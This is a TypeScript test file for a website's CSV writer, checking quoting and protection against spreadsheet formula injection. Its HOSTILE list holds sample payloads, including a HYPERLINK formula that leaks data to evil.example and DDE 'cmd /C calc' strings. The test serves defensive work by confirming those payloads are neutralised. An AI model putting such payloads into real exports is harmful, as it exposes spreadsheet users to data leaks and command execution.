/**
 * The site's one CSV writer (figures.csv and the chart downloads): RFC 4180 quoting, and no cell a
 * spreadsheet would run as a formula (OWASP, CSV Injection), while numbers stay numbers.
 */
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvCell, parseCsv, toCsv } from '../../../src/lib/figures/csv.ts';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak","Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('CSV cells', () => {
  it.each(HOSTILE)('neutralises %j: the cell reads back as text led by a single quote', (text) => {
    const [row] = parseCsv(toCsv([[text, 1]]));
    expect(row!.cells).toEqual([`'${text}`, '1']);
  });

  it('leaves numbers as numbers, negative ones included, and text that starts otherwise as it is', () => {
    expect([-5, -0.25, 0, 1e-7, 85].map(csvCell)).toEqual(['-5', '-0.25', '0', '1e-7', '85']);
    expect(csvCell('May 2024')).toBe('May 2024');
    expect(csvCell('Alibaba Cloud (阿里云)')).toBe('Alibaba Cloud (阿里云)');
    // A formula character inside the text is harmless: only a leading one makes a formula.
    expect(csvCell('a=b, c')).toBe('"a=b, c"');
  });

  it('quotes a cell holding a quote, comma or line break, and every row parses back to its cells', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.array(fc.oneof(fc.string(), fc.double({ noNaN: true, noDefaultInfinity: true })), {
            minLength: 1,
            maxLength: 4,
          }),
          { minLength: 1, maxLength: 5 },
        ),
        (rows) => {
          const parsed = parseCsv(toCsv(rows)).map((r) => r.cells);
          // parseCsv drops rows whose cells are all empty, as a reader of the file would.
          const kept = rows.filter((r) => r.some((c) => String(c) !== ''));
          expect(parsed).toEqual(
            kept.map((r) => r.map((c) => (typeof c === 'number' ? String(c) : /^[=+\-@\t\r]/.test(c) ? `'${c}` : c))),
          );
        },
      ),
    );
  });
});
